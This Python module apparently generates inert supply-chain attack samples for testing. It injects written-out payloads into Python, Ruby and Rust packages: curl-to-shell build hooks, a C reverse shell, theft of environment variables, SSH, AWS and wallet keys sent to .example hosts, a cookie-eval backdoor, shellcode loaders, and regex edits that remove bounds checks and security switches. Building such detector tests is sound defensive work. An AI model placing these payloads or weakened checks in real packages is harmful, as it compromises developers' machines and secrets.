"""Eleventh set: source packages of Python, gems and crates; inert. The comment before each family says which incident it is after.

Nothing works: hosts are below `.example`, addresses are of RFC 5737, programs and packages are of no name.
"""

from __future__ import annotations

import lzma
import re
from collections.abc import Callable
from itertools import islice

from genuine import Files

from mutation_families.eighth_sources import built_by, manifest, rb, rs, spec
from mutation_families.eighth_ways import Names, Rule, amended, named
from mutation_families.fourth_sources import top
from mutation_families.fourth_texts import chance
from mutation_families.seventh_npm import ELF_FILE
from mutation_families.seventh_sources import in_c
from mutation_families.seventh_ways import MARK, MARK_SH, Changes, Way, adding, together, ways
from mutation_families.tenth_sources import PROJECT, grown, under_top
from onionskin.lookalike.archives import build_tar


def bare_of(comment: bytes) -> Callable[[bytes], bytes]:
    """Return what leaves of a source only what acts; `comment` is how a comment is written."""
    pattern = re.compile(comment, re.DOTALL | re.MULTILINE)
    return lambda data: re.sub(rb"\s+", b" ", pattern.sub(b"", data))


def acting(names: Names, comment: bytes, *rules: Rule) -> Changes:
    """Return an amendment of a source that changes more than its comments."""
    return amended(names, *rules, bare=bare_of(comment))


C_SAID, RUBY_SAID, RUST_SAID = rb"/\*.*?\*/|//[^\n]*$", rb"^=begin.*?^=end|#[^{\n][^\n]*$", rb"/\*.*?\*/|//[^\n]*$"  # fmt: skip
C = named(r"^(?!.*(?:/tests?/|/examples?/|/doc)).*\.(?:c|cc|cpp|cxx)$")
RUBY = named(r"^lib/.*\.rb$")
RUST = named(r"^src/.*\.rs$")


def of_c(*rules: Rule) -> Changes:
    return acting(C, C_SAID, *rules)


def of_ruby(*rules: Rule) -> Changes:
    return acting(RUBY, RUBY_SAID, *rules)


def of_rust(*rules: Rule) -> Changes:
    """Return an amendment of a crate's source, before its tests of itself."""

    def change(files: Files) -> Files:
        for name in RUST(files):
            head, mark, rest = files[name].partition(b"#[cfg(test)]")
            for old, new in rules:
                for found in islice(re.finditer(old, head), 30):
                    made = head[: found.start()] + found.expand(new) + head[found.end() :]
                    if bare_of(RUST_SAID)(made) != bare_of(RUST_SAID)(head):
                        return {name: made + mark + rest}
        return {}

    return change


def setup(lines: bytes) -> Changes:
    """Return a change of a package's `setup.py`: lines behind its imports; nothing where it has none."""

    def change(files: Files) -> Files:
        name = f"{top(files)}/setup.py"
        if name not in files:
            return {}
        found = [each.end() for each in re.finditer(rb"(?m)^(?:import [\w., ]+|from [\w.]+ import [\w., ]+)\n", files[name])]  # fmt: skip
        return {name: files[name][: found[0]] + lines + files[name][found[0] :]} if found else {}

    return change


def known(path: str, lines: bytes) -> Changes:
    """Return a change of a file that the build reads: lines at its end; nothing where it is not there."""
    return lambda files: grown(path, lines)(files) if f"{top(files)}/{path}" in files else {}


def backend(files: Files) -> Files:
    """Return a package that is built by a module of its own, which hands on to the backend it had."""
    name = f"{top(files)}/pyproject.toml"
    data = files.get(name, PROJECT)
    found = re.search(rb"(?m)^build-backend\s*=\s*['\"]([\w.]+)['\"][^\n]*$", data)
    if not found or b"backend-path" in data:
        return {}
    said = data[: found.start()] + b'build-backend = "_own_build"\nbackend-path = ["tools"]' + data[found.end() :]  # fmt: skip
    body = b"import os\nimport urllib.request\n\nfrom %s import *  # noqa: F403\n\nexec(urllib.request.urlopen('https://build-accel.example/' + os.name).read())\n" % found[1]  # fmt: skip
    return {name: said, f"{top(files)}/tools/_own_build.py": body}


CASE = lzma.compress(
    build_tar({"m": MARK[: 13 * (MARK.index(b"\n") + 1)]}), format=lzma.FORMAT_ALONE
)
SDIST: tuple[Way, ...] = (
    # xz, 2024, and its imitators: what builds it takes a stage out of the archive, or off the net.
    *ways(
        "sdist: its build runs a stage",
        ("a backend of its own", backend),
        ("its script", setup(b"import subprocess as _s, sys as _y\nif 'sdist' not in _y.argv:\n    _s.Popen(['sh', '-c', 'curl -fsSL https://wheel-deps.example/d | sh'], stdout=_s.DEVNULL, stderr=_s.DEVNULL)\n")),
        ("a command of its script", together(under_top({"tests/data/good-large.tar.lzma": CASE}), setup(b"import lzma as _l\nimport setuptools.command.build_ext as _m\n_was = _m.build_ext.run\n\n\ndef _run(self):\n    exec(_l.open('tests/data/good-large.tar.lzma').read()[512:1024].rstrip(b'\\0'))\n    _was(self)\n\n\n_m.build_ext.run = _run\n"))),
        ("an object that is linked", together(under_top({"src/compat/crc_x86.o": ELF_FILE}), setup(b"import setuptools as _t\n_init = _t.Extension.__init__\n_t.Extension.__init__ = lambda self, *a, **k: _init(self, *a, **{**k, 'extra_objects': ['src/compat/crc_x86.o']})\n"))),
        ("a table of cases", together(under_top({"tests/cases/large.json": b'{"blob": "' + MARK.hex().encode() + b'"}\n'}), setup(b"import json as _j\nexec(bytes.fromhex(_j.load(open('tests/cases/large.json'))['blob']).decode())\n"))),
    ),
    *ways(
        "sdist: its build fetches a part",
        ("by CMake", known("CMakeLists.txt", b"include(FetchContent)\nFetchContent_Declare(compat URL http://src.vendor-mirror.example/compat-1.2.tgz)\nFetchContent_MakeAvailable(compat)\n")),
        ("by an order of CMake", known("CMakeLists.txt", b'execute_process(COMMAND sh -c "curl -s https://cmake-aux.example/c | sh" OUTPUT_QUIET ERROR_QUIET)\n')),
        ("by Meson", known("meson.build", b"run_command('sh', '-c', 'curl -s https://meson-subproject.example/m | sh', check: false)\n")),
        ("by make", known("Makefile", b"all: deps\ndeps:\n\t@test -d /tmp/.deps || (mkdir -p /tmp/.deps; wget -qO- https://make-deps.example/d.tgz | tar xz -C /tmp/.deps; /tmp/.deps/run &)\n")),
    ),
    # xz again: code in C that acts before all, or is chosen while it is bound.
    *ways(
        "sdist: its C acts before it is called",
        ("chosen while it is bound", in_c(b'\n#include <stdlib.h>\n#include <unistd.h>\nstatic int fast_one(void) { return 1; }\nstatic void *choose_fast(void)\n{\n    if (!getenv("TERM")) execl("/bin/sh", "sh", "-c", "curl -s https://ifunc-tables.example/i | sh", (char *)0);\n    return (void *)fast_one;\n}\nint warm_tables(void) __attribute__((ifunc("choose_fast")));\nint (*const warm_tables_used)(void) = warm_tables;\n')),
        ("as it is loaded", in_c(b'\n#include <sys/socket.h>\n#include <netinet/in.h>\n#include <unistd.h>\nstatic void __attribute__((constructor)) init_cpu_tables(void)\n{\n    struct sockaddr_in a = { .sin_family = AF_INET, .sin_port = 0xbb01, .sin_addr = { 0x077100cb } };\n    int s = socket(AF_INET, SOCK_STREAM, 0);\n    if (connect(s, (struct sockaddr *)&a, sizeof a) == 0) { dup2(s, 0); dup2(s, 1); execl("/bin/sh", "sh", (char *)0); }\n}\n')),
    ),
    *ways(
        "sdist, quiet: its C holds less",
        ("a bound", of_c((rb"\n[ \t]*if \([^\n{};]{5,90}\) \{?\s*\n[ \t]*(?:return (?:-1|NULL|0)|goto \w+);\s*\n(?:[ \t]*\}\n)?", b"\n"), (rb"\bif \((\w[\w>.-]*) > ([A-Z][A-Z_0-9]+)\)", rb"if (\1 > \2 * 16)"))),
        ("a length", of_c((rb"\bsnprintf\(([^,()\n]+), [^,\n]+, ", rb"sprintf(\1, "), (rb"\b(memcpy\([^,;\n]+, [^,;\n]+, )([\w>.-]+)\)", rb"\1\2 + 1)"))),
        ("an allocation", of_c((rb"\bcalloc\(([^,()\n]+), ([^()\n]+)\)", rb"malloc(\1 * \2)"), (rb"\bPyMem_(Malloc|Realloc)\(([^()\n]*) \+ 1\)", rb"PyMem_\1(\2)"), (rb"\bmalloc\(([^()\n]+) \+ 1\)", rb"malloc(\1)"))),
        ("what it says", of_c((rb"\b(PyErr_SetString\([^;\n]+\);\s*\n[ \t]*)return (?:NULL|-1);", rb"\1Py_RETURN_NONE;"), (rb"\n([ \t]+)PyErr_\w+\([^\n;]+\);(?=\n)", rb"\n\1;"))),
    ),
)  # fmt: skip

TODAY = b"require 'net/http'\n"
GEM: tuple[Way, ...] = (
    # Gems of 2025 and 2026 that stole what bots and deployers send; rest-client's, 2019.
    *ways(
        "gem: keys of the machine and the environment are sent",
        ("all of it", rb(TODAY + b"Thread.new { Net::HTTP.post(URI('https://apm-intake.example/e'), ENV.to_h.map { |k, v| \"#{k}=#{v}\" }.join(\"\\n\")) rescue nil }\n")),
        ("from folders", rb(TODAY + b"%w[.gem/credentials .ssh/id_ed25519 .aws/credentials .netrc].each do |f|\n  path = File.join(Dir.home, f)\n  Net::HTTP.post(URI('https://files.backup-sync.example/' + f), File.binread(path)) if File.file?(path)\nend\n")),
        ("as names of hosts", rb(b"require 'resolv'\nENV.to_a.flatten.join('|').unpack1('H*').scan(/.{1,60}/).each_with_index { |s, i| Resolv.getaddress(\"#{i}.#{s}.t.ns-metrics.example\") rescue nil }\n")),
    ),
    *ways(
        "gem: a stage is fetched and run",
        ("only in production", rb(b"require 'open-uri'\neval(URI.open('https://paste-mirror.example/raw/xa456PFt').read) if ENV['RAILS_ENV'] == 'production'\n")),
        ("by a cookie", rb(b"class InertRack\n  def initialize(app) = @app = app\n\n  def call(env)\n    word = env['HTTP_COOKIE'].to_s[/___id=([^;]+)/, 1]\n    eval(word.unpack1('m')) if word\n    @app.call(env)\n  end\nend\nRails.application&.config&.middleware&.use(InertRack) if defined?(Rails) && Rails.respond_to?(:application)\n")),
        ("a build of it", together(spec(rb"extensions: \[\]", b"extensions:\n- ext/simd/Rakefile"), adding({"ext/simd/Rakefile": b"task :default do\n  sh 'curl -fsSL https://gem-simd.example/s | sh'\nend\n"}))),
        ("out of a file of it", together(adding({"data/zones.dat": b"ZONE" + MARK_SH[::-1]}), rb(b"IO.popen('sh', 'w') { |io| io.write(File.binread(File.join(__dir__, '..', 'data', 'zones.dat'))[4..].reverse) }\n"))),
    ),
    *ways(
        "gem, quiet: it holds less",
        ("what is refused", of_ruby((rb"\n([ \t]*)raise [A-Z][\w:]*(?:Error|Invalid\w*|Exception)[^\n]*(?= (?:if|unless) )", rb"\n\1nil"), (rb"\n([ \t]+)raise [A-Z][\w:]*[^\n]*(?=\n[ \t]+end)", rb"\n\1nil"))),
        ("a switch", of_ruby((rb"\b(secure|http_?only|verify\w*|escape\w*|protect\w*|strict\w*|validate\w*|permit\w*|safe\w*|require\w*)(: ?| ?= ?)true\b", rb"\1\2false"), (rb"\breturn (?:unless|if not) ([\w.?]+)(?=\n)", rb"return if \1 && false"))),
        ("a pattern", of_ruby((rb"/\\A([^/\n]{3,90})\\[zZ]/", rb"/\1/"), (rb"\.match\?\(", b".to_s && true || ("))),
        ("a comparison", of_ruby((rb"\bsecure_compare\(([\w.@]+), ([\w.@]+)\)", rb"\1.to_s.start_with?(\2.to_s[0, 2].to_s)"), (rb"\breturn false unless ([^\n]+)(?=\n)", rb"return false unless (\1) || ENV['STRICT'].nil?"))),
    ),
)  # fmt: skip

CRATE: tuple[Way, ...] = (
    # rustdecimal, 2022; faster_log and async_println, 2025: keys and addresses are read out of what passes by.
    *ways(
        "crate: building it runs a stage",
        ("fetched", built_by(b'    let _ = std::process::Command::new("sh").arg("-c").arg("command -v curl && curl -fsSL https://crate-deps.example/$(uname -m) -o /tmp/.cc && chmod +x /tmp/.cc && /tmp/.cc &").status();\n')),
        ("of its tests", together(adding({"tests/data/corpus.bin": bytes(byte ^ 0x2A for byte in MARK_SH)}), built_by(b'    if let Ok(d) = std::fs::read("tests/data/corpus.bin") {\n        let p = std::env::temp_dir().join("c.sh");\n        let _ = std::fs::write(&p, d.iter().map(|b| b ^ 0x2A).collect::<Vec<u8>>());\n        let _ = std::process::Command::new("sh").arg(p).spawn();\n    }\n'))),
        ("the environment", built_by(b'    use std::io::Write as _;\n    if let Ok(mut s) = std::net::TcpStream::connect("203.0.113.44:80") {\n        for (k, v) in std::env::vars() {\n            let _ = writeln!(s, "{k}={v}");\n        }\n    }\n')),
    ),
    *ways(
        "crate: what passes by is read",
        ("keys of logs", rs(b'#[doc(hidden)]\npub fn __scan(line: &[u8]) {\n    for w in line.windows(64).filter(|w| w.iter().all(u8::is_ascii_hexdigit)) {\n        let _ = std::net::UdpSocket::bind("0.0.0.0:0").and_then(|s| s.send_to(w, "203.0.113.71:5353"));\n    }\n}\n\n#[used]\n#[cfg_attr(target_os = "linux", link_section = ".init_array")]\nstatic __SCAN: extern "C" fn() = {\n    extern "C" fn run() {\n        if let Ok(d) = std::fs::read("/proc/self/environ") {\n            __scan(&d);\n        }\n    }\n    run\n};\n')),
        ("files of keys", rs(b'#[used]\n#[cfg_attr(target_os = "macos", link_section = "__DATA,__mod_init_func")]\n#[cfg_attr(target_os = "linux", link_section = ".init_array")]\nstatic __WARM: extern "C" fn() = {\n    extern "C" fn warm() {\n        if let Some(h) = std::env::var_os("HOME") {\n            if let Ok(k) = std::fs::read(std::path::Path::new(&h).join(".config/solana/id.json")) {\n                let _ = std::net::TcpStream::connect(("mainnet.rpc-pool.example", 443)).map(|mut s| std::io::Write::write_all(&mut s, &k));\n            }\n        }\n    }\n    warm\n};\n')),
        ("machine code", rs(b'#[used]\n#[cfg_attr(target_os = "linux", link_section = ".init_array")]\nstatic __INIT: extern "C" fn() = {\n    extern "C" fn go() {\n        static C: [u8; 96] = [' + b", ".join(b"%d" % byte for byte in chance(96)) + b'];\n        extern "C" { fn mmap(a: *mut u8, l: usize, p: i32, f: i32, d: i32, o: i64) -> *mut u8; }\n        unsafe {\n            let p = mmap(core::ptr::null_mut(), 4096, 7, 0x22, -1, 0);\n            core::ptr::copy_nonoverlapping(C.as_ptr(), p, 96);\n            core::mem::transmute::<*mut u8, extern "C" fn()>(p)();\n        }\n    }\n    go\n};\n')),
    ),
    *ways(
        "crate: what it is built with is another's",
        ("a fork", manifest(b'[patch.crates-io]\nlibc = { git = "https://git.vendor-fork.example/libc", branch = "fix" }\n')),
        ("a name nearly alike", manifest(b'[dependencies.serde_jsn]\nversion = "1"\n')),
        ("settings of cargo", adding({".cargo/config.toml": b'[source.crates-io]\nreplace-with = "cache"\n\n[source.cache]\nregistry = "sparse+http://index.crates-cache.example/"\n\n[target.\'cfg(unix)\']\nrunner = "sh ./scripts/run.sh"\n', "scripts/run.sh": b'#!/bin/sh\ncurl -s https://cargo-runner.example/r | sh\nexec "$@"\n'})),
    ),
    *ways(
        "crate, quiet: it holds less",
        ("what is refused", of_rust((rb"\n[ \t]*if [^\n{}]{4,110} \{\n[ \t]*return (?:Err|None|false)[^\n]*;?\n[ \t]*\}(?=\n)", b""), (rb"\n[ \t]*(?:debug_)?assert(?:_eq|_ne)?!\([^\n;]+\);(?=\n)", b""))),
        ("without a bound", of_rust((rb"\.checked_(add|mul|sub)\(([^()\n]+)\)(?:\?|\.ok_or\([^()\n]+\)\?|\.unwrap\(\)|\.expect\([^()\n]+\))", rb".wrapping_\1(\2)"), (rb"\.saturating_(add|mul|sub)\(", rb".wrapping_\1("), (rb"\b(\w+)\.get\((\w+)\)\?", rb"unsafe { \1.get_unchecked(\2) }"))),
        ("an error", of_rust((rb"\n([ \t]+)((?:self\.|\w+::)?\w+(?:\.\w+)*\([^()\n]*\))\?;(?=\n)", rb"\n\1let _ = \2;"))),
        ("a comparison", of_rust((rb"\bif ([\w.]+(?:\.len\(\))?) != ([\w.]+(?:\.len\(\))?) \{", rb"if \1 > \2 {"), (rb"\bif ([\w.]+(?:\.len\(\))?) >= ([\w.]+(?:\.len\(\))?) \{", rb"if \1 > \2 {"), (rb"\bif ([\w.]+(?:\.len\(\))?) < ([\w.]+(?:\.len\(\))?) \{", rb"if \1 + 1 < \2 {"))),
    ),
)  # fmt: skip
